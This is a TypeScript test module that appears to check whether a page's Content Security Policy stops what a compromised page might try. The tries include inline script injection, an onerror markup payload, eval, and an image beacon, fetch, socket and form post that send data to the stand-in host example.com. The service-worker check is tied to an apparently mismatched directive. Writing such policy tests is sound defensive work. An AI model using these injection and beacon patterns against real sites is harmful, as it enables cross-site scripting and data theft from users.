/** What a page that was taken over tries. */

/** What the tries share: whether the page's policy spoke up, within a moment. */
export function prepare(waits: number) {
  const through = (directive: string, act: () => unknown) =>
    new Promise<boolean>((done) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (effectiveDirective === directive) done(false)
      })
      act()
      setTimeout(() => done(true), waits)
    })
  Object.assign(globalThis, { blockedBy: through })
}

declare function blockedBy(directive: string, act: () => unknown): Promise<boolean>

/** Each is true where it came through. They run as a script of the page's own would, bound by the page's policy. */
export const attempts = {
  'a script written into the page': () =>
    new Promise<boolean>((done) => {
      Reflect.set(globalThis, 'ran', () => done(true))
      try {
        const script = document.createElement('script')
        script.textContent = 'ran()'
        document.body.append(script)
      } catch {
        done(false)
      }
      setTimeout(() => done(false), 100)
    }),
  'a handler written as an attribute': () => {
    const button = document.createElement('button')
    try {
      button.setAttribute('onclick', 'window.clicked = true')
    } catch {
      return false
    }
    document.body.append(button)
    button.click()
    button.remove()
    return 'clicked' in window
  },
  'markup with a script in it': () => {
    try {
      document.createElement('div').innerHTML = '<img src=x onerror="1">'
      return true
    } catch {
      return false
    }
  },
  'words that are run': () =>
    new Promise<boolean>((done) =>
      // Later: what asks from outside may run words, and what it does at once passes for it.
      setTimeout(() => {
        try {
          done((Reflect.get(globalThis, 'eval') as (words: string) => boolean)('true'))
        } catch {
          done(false)
        }
      }),
    ),
  'a frame of another place': () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://example.com/'
    return blockedBy('frame-src', () => document.body.append(frame))
  },
  'a frame of the hall itself': () => {
    const frame = document.createElement('iframe')
    frame.src = '/?screen=touch'
    return blockedBy('frame-src', () => document.body.append(frame))
  },
  'an object': () => {
    const object = document.createElement('object')
    object.data = '/media/x.pdf'
    return blockedBy('object-src', () => document.body.append(object))
  },
  'a picture from elsewhere, which carries words out': () => {
    const picture = new Image()
    return blockedBy('img-src', () => (picture.src = 'https://example.com/?secret'))
  },
  'a style from elsewhere': () => {
    const link = document.createElement('link')
    Object.assign(link, { rel: 'stylesheet', href: 'https://example.com/x.css' })
    return blockedBy('style-src-elem', () => document.head.append(link))
  },
  'a request to elsewhere': () =>
    blockedBy('connect-src', () => void fetch('https://example.com/').catch(() => {})),
  'a socket to elsewhere': () =>
    blockedBy('connect-src', () => {
      try {
        new WebSocket('wss://example.com/')
      } catch {
        // Some say so by an error.
      }
    }),
  'a form that is sent elsewhere': () => {
    const form = document.createElement('form')
    Object.assign(form, { action: 'https://example.com/', method: 'post' })
    document.body.append(form)
    return blockedBy('form-action', () => form.requestSubmit())
  },
  'another base for every address': () => {
    const base = document.createElement('base')
    base.href = 'https://example.com/'
    return blockedBy('base-uri', () => document.head.append(base)).then((through) => {
      base.remove()
      return through
    })
  },
  'a worker that stays when the page goes': () =>
    blockedBy('require-trusted-types-for', () => {
      try {
        navigator.serviceWorker.register('/assets/x.js').catch(() => {})
      } catch {
        // Some say so by an error.
      }
    }),
  'a worker made of words': () => {
    try {
      new Worker(URL.createObjectURL(new Blob(['1'])))
      return true
    } catch {
      return false
    }
  },
} satisfies Record<string, () => boolean | Promise<boolean>>
